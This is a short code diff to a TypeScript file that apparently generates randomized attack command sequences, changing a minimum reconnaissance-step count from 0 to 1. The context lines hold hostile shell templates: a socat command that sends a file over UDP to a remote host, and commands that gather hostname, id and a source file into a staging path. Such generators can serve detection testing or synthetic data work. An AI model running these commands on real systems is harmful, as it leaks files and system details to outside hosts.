@@ -145,7 +145,7 @@ const names: Attack = {
       `timeout 10 socat -u FILE:${path} UDP:${host}:${port}`,
     ];
     return [
-      ...look(draw, draw.int(0, 3)),
+      ...look(draw, draw.int(1, 3)),
       draw.pick([
         `cat ${source} > ${path} 2>/dev/null`,
         `(hostname; id; cat ${source}) > ${path} 2>/dev/null`,
